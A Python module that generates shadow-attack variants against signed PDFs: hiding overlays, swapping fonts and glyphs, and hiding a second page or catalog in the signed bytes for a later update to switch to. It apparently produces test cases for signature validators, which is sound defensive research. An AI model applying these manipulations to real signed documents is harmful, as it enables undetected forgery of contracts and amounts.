"""Mainka et al., NDSS 2021: content that the signer did not see is shown later."""

import re

from line import CHANGED, line_stream, role
from revision import HELVETICA, Revision, stream


def shadow_hide(base):
    """What covers the shadow content is taken away."""
    revision, before = base.later()
    revision.put_stream(base.roles["Overlay"], b"", b"/Type /XObject /Subtype /Form /BBox [0 0 1 1]")
    yield "overlay-emptied", before, revision.finish()
    revision, before = base.later()
    revision.put(base.roles["Overlay"], b"null")
    yield "overlay-null", before, revision.finish()
    revision, before = base.later()
    revision.freed.append(base.roles["Overlay"])
    yield "overlay-freed", before, revision.finish()
    revision, before = base.later()
    revision.put_stream(base.roles["Overlay"], b"1 g 0 0 420 40 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 0 0]")
    yield "overlay-clipped", before, revision.finish()
    revision, before = base.later()
    hidden = revision.contents()[-2]
    data = revision.pdf.get_object(hidden, 0).read_bytes().replace(b"/TrienO Do", b"")
    revision.put_stream(hidden, data)
    yield "overlay-not-drawn", before, revision.finish()
    revision, before = base.later()
    revision.put(base.roles["Overlay"], b"<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Length 0 >>\nstream\n\nendstream", generation=1)
    yield "overlay-renumbered", before, revision.finish()


def shadow_replace(base):
    """What seems harmless to replace is replaced: a font, a picture, a form's look."""
    revision, before = base.later()
    differences = b"/Encoding << /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [48 /nine /eight] >>"
    revision.put(base.roles["LineFont"], b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica %s >>" % differences)
    yield "font-encoding", before, revision.finish()
    revision, before = base.later()
    glyph = revision.add_stream(b"1000 0 0 0 750 750 d1 0 0 600 700 re f")
    revision.put(
        base.roles["LineFont"],
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 750 750] /FontMatrix [.001 0 0 .001 0 0] /FirstChar 48 /LastChar 49"
        b" /Widths [600 600] /Encoding << /Type /Encoding /Differences [48 /x /x] >> /CharProcs << /x %d 0 R >> /Resources << >> >>" % glyph,
    )
    yield "font-glyphs", before, revision.finish()
    revision, before = base.later()
    revision.put_stream(
        base.roles["Overlay"], b"0 g BT /F 20 Tf 10 10 Td (Ben B tra 9999 dong) Tj ET",
        b"/Type /XObject /Subtype /Form /BBox [0 0 420 40] /Matrix [1 0 0 1 90 290] /Resources << /Font << /F %s >> >>" % HELVETICA,
    )
    yield "overlay-content", before, revision.finish()
    revision, before = base.later()
    revision.put_stream(
        base.roles["TextLook"], b"BT /F 12 Tf 0 g 2 6 Td (9999) Tj ET",
        b"/Type /XObject /Subtype /Form /BBox [0 0 200 24] /Resources << /Font << /F %s >> >>" % HELVETICA,
    )
    yield "field-look", before, revision.finish()
    revision, before = base.later()
    revision.with_keys(base.roles["LineFont"], BaseFont=b"/ZapfDingbats")
    yield "font-name", before, revision.finish()
    yield "promised-content", *promised(base)


def promised(base):
    """The page draws an object that does not exist yet; the attacker adds it later."""
    def furnish(base):
        revision = Revision(base.content)
        contents = b" ".join(b"%d 0 R" % number for number in revision.contents())
        revision.with_keys(revision.page(), Contents=b"[" + contents + b" 900 0 R]")
        return revision.finish()

    revision, before = base.later(furnish=furnish)
    revision.put_stream(900, CHANGED)
    return before, revision.finish()


def shadow_hide_and_replace(base):
    """Two documents in one: the signed bytes hold the second, and the attacker switches over."""
    before = base.signed(furnish=two_documents)

    def later():
        return Revision(before)

    twin = twins(before)
    revision = later()
    revision.moved[line_stream(revision)] = twin["line"]
    yield "content-from-signed-bytes", before, revision.finish()
    revision = later()
    revision.moved[revision.page()] = twin["page"]
    yield "page-from-signed-bytes", before, revision.finish()
    revision = later()
    revision.moved[revision.root] = twin["catalog"]
    yield "catalog-from-signed-bytes", before, revision.finish()
    revision = later()
    hidden = next(n for n in range(1, revision.size) if role(revision, n) == "/HiddenPage")
    revision.with_keys(revision.page(), Contents=revision.pdf.get_object(hidden, 0).Contents.unparse()
                       if not revision.pdf.get_object(hidden, 0).Contents.is_indirect
                       else b"%d 0 R" % revision.pdf.get_object(hidden, 0).Contents.objgen[0])
    yield "page-takes-hidden-content", before, revision.finish()
    revision = later()
    node = revision.pdf.Root.Pages.objgen[0]
    if revision.pdf.pages[0].obj.Parent.objgen[0] == node:
        kids = [b"%d 0 R" % kid.objgen[0] for kid in revision.pdf.Root.Pages.Kids]
        kids[0] = b"%d 0 R" % hidden
        revision.with_keys(node, Kids=b"[" + b" ".join(kids) + b"]")
    yield "hidden-page-in-the-tree", before, revision.finish()
    revision = later()
    catalog = revision.add(revision.body(revision.root))
    revision.with_keys(revision.page(), Contents=b"%d 0 R" % revision.add_stream(b"q " + CHANGED + b" Q"))
    revision.root = catalog
    yield "another-root", before, revision.finish()


def two_documents(base):
    """The base with a second version of its line, page and catalog under the same numbers, and a hidden page."""
    revision = Revision(base.content)
    line, page, root = line_stream(revision), revision.page(), revision.root
    shadow = revision.add_stream(b"q " + CHANGED + b" Q")
    hidden = revision.with_keys_of(page, Contents=b"%d 0 R" % shadow, Role=b"/HiddenPage")
    revision.put(revision.size, hidden)
    second = b"%d 0 obj\n" % line + stream(b"Q " + CHANGED) + b"\nendobj\n"
    second += b"%d 0 obj\n" % page + revision.with_keys_of(page, Contents=b"%d 0 R" % shadow) + b"\nendobj\n"
    second += b"%d 0 obj\n" % root + revision.body(root).replace(b"/OCProperties", b"/NoProperties") + b"\nendobj\n"
    revision.base = base.content + second
    return revision.finish()


def twins(content):
    """Where the second versions stand: each number's definition before the last one of the base."""
    found = {}
    revision = Revision(content)
    wanted = {"line": line_stream(revision), "page": revision.page(), "catalog": revision.root}
    for what, number in wanted.items():
        for match in re.finditer(rb"(?:^|\n)(%d 0 obj)\b" % number, content):
            part = content[match.start(1) : match.start(1) + 4000].split(b"endobj")[0]
            if {"line": b"9999", "page": b"/Type /Page", "catalog": b"/NoProperties"}[what] in part:
                found[what] = match.start(1)
                if what != "page":
                    break
                if b"/Contents [" not in part:
                    break
    return found
